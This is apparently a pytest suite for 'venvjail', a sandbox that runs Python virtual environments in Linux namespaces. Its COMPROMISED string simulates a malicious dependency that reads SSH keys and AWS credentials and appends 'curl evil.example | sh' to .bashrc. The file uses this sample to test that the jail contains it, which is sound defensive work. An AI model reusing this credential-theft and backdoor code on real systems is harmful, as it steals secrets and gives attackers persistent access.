"""The seed's overview, a sentence a test."""

import json
import os
from pathlib import Path

from tests.support.home import SECRET
from tests.support.jail import VENVJAIL, JailedVenv

# What a compromised release of a dependency does as soon as it is imported.
COMPROMISED = """
import json, os, pathlib

home = pathlib.Path.home()
loot = {}
for name in (".ssh/id_rsa", ".aws/credentials", "docs/letter.txt"):
    try:
        loot[name] = (home / name).read_text()
    except OSError as error:
        loot[name] = type(error).__name__
try:
    with (home / ".bashrc").open("a") as file:
        file.write("curl evil.example | sh\\n")
    loot["backdoor"] = True
except OSError:
    loot["backdoor"] = False

def useful(word):
    return word.upper()
"""
PROGRAM = (
    "import json, dependency; print(dependency.useful('works')); print(json.dumps(dependency.loot))"
)

# What ordinary programs find out about where they are, with what both venvs have in common.
ORDINARY = """
import json, os, pathlib, subprocess, sys

pathlib.Path("made").write_text("x")
subprocess.run(["cp", "made", "copied"], check=True)
print(json.dumps({
    "arguments": sys.argv[1:],
    "directory": os.getcwd(),
    "user": [os.getuid(), os.getgid(), os.path.expanduser("~")],
    "input": sys.stdin.read(),
    "in_venv": sys.prefix != sys.base_prefix,
    "base": sys.base_prefix,
    "version": sys.version,
    # Without the venvs, and the places that a running jail holds for editors and agents.
    "project": sorted({*os.listdir()} - {"venv", "plain", ".vscode", ".claude", ".cursor"}),
    "git": subprocess.run(["git", "log", "--format=%s"], capture_output=True, text=True).stdout,
    "variable": os.environ.get("EXTRA"),
    "umask": os.umask(0),
}))
"""


def test_programs_run_without_full_access_to_the_account(jail: JailedVenv) -> None:
    """`venvjail` allows to install and run python programs without giving them full access to
    the user's account."""
    program = """
import os, pathlib
for directory, _, files in os.walk(pathlib.Path.home()):
    for name in files:
        try:
            print(pathlib.Path(directory, name).read_text())
        except (OSError, UnicodeDecodeError):
            pass
"""
    assert SECRET in jail.home.check(["/usr/bin/python3", "-c", program])
    seen = jail.python(program)
    assert SECRET not in seen
    assert "hello from proj" in seen


def test_a_compromised_dependency_does_no_harm_and_works(own_jail: JailedVenv) -> None:
    """The goal is to limit harm a compromised dependency can make without sacrificing the user's
    convenience."""
    home = own_jail.home
    before = home.snapshot(without=home.project)
    (home.project / "dependency.py").write_text(COMPROMISED, encoding="utf-8")
    answer, loot = own_jail.python(PROGRAM).splitlines()
    assert answer == "WORKS"
    assert json.loads(loot) == {
        ".ssh/id_rsa": "FileNotFoundError",
        ".aws/credentials": "FileNotFoundError",
        "docs/letter.txt": "FileNotFoundError",
        "backdoor": False,
    }
    assert home.snapshot(without=home.project) == before
    # The control: without a jail it gets all of it.
    loot = home.check(["/usr/bin/python3", "-c", PROGRAM]).splitlines()[1]
    assert loot.count(SECRET) == 3
    assert "evil.example" in (home.root / ".bashrc").read_text()


def test_a_program_does_not_notice(own_jail: JailedVenv) -> None:
    """`venvjail` offers very similar workflow to the standard Python `venv`, in most cases you
    should not notice and be affected by the additional limitations applied in the jailed venv."""
    home = own_jail.home
    home.check([*VENVJAIL[:2], "venv", "--without-pip", "plain"])
    program = home.write("src/proj/ordinary.py", ORDINARY)
    answers = [
        home.check(
            [f"{name}/bin/python", program, "one", "a b"], stdin="typed\n", env={"EXTRA": "1"}
        )
        for name in ("plain", "venv")
    ]
    assert json.loads(answers[0])["in_venv"]
    assert json.loads(answers[0]) == json.loads(answers[1])


def test_a_failing_program_fails_alike(own_jail: JailedVenv) -> None:
    """`venvjail` offers very similar workflow to the standard Python `venv`: a traceback and its
    status are those of the program."""
    home = own_jail.home
    home.check([*VENVJAIL[:2], "venv", "--without-pip", "plain"])
    program = home.write("src/proj/failing.py", "raise ValueError('no')\n")
    plain, jailed = (home.run([f"{name}/bin/python", program]) for name in ("plain", "venv"))
    assert (plain.returncode, plain.stderr.splitlines()[-1]) == (1, "ValueError: no")
    assert (jailed.returncode, jailed.stderr) == (plain.returncode, plain.stderr)


def test_linux_namespaces(jail: JailedVenv) -> None:
    """`venvjail` uses Linux namespaces ..."""
    program = (
        "import os, json; "
        "print(json.dumps({n: os.readlink('/proc/self/ns/' + n) for n in "
        "('user', 'mnt', 'pid', 'ipc', 'net', 'uts')}))"
    )
    host = json.loads(jail.home.check(["/usr/bin/python3", "-c", program]))
    inside = json.loads(jail.python(program))
    assert {name for name in host if host[name] != inside[name]} == {"user", "mnt", "pid", "ipc"}


def test_no_root_privileges(jail: JailedVenv) -> None:
    """... and runs without root privileges."""
    jail.python("")
    status = jail.status
    assert status is not None
    for pid in (status.supervisor, status.init):
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
        ids = {word for line in lines if line.startswith("Uid:") for word in line.split()[1:]}
        assert ids == {str(os.getuid())}
    inside = jail.python("print(open('/proc/self/status').read())").splitlines()
    fields = dict(line.split(":\t", 1) for line in inside if ":\t" in line)
    assert fields["Uid"].split() == [str(os.getuid())] * 4
    assert {fields[f"Cap{name}"] for name in ("Inh", "Prm", "Eff", "Bnd", "Amb")} == {"0" * 16}


def test_user_namespaces_are_required(own_jail: JailedVenv) -> None:
    """It requires a Linux kernel with user namespaces enabled (for example, Ubuntu 22 default
    kernel)."""
    python = str(own_jail.bin / "python")
    limited = ["unshare", "--user", "--map-current-user", "--keep-caps", "sh", "-c"]
    limit = "echo {} >/proc/sys/user/max_user_namespaces && exec {} -c 'print(\"ran\")'"
    done = own_jail.home.run([*limited, limit.format(0, python)])
    assert (done.returncode, done.stdout) == (125, "")
    assert done.stderr.startswith("venvjail: user namespaces are switched off on this machine")
    assert done.stderr.count("\n") == 1
    assert own_jail.home.check([*limited, limit.format(100, python)]) == "ran\n"
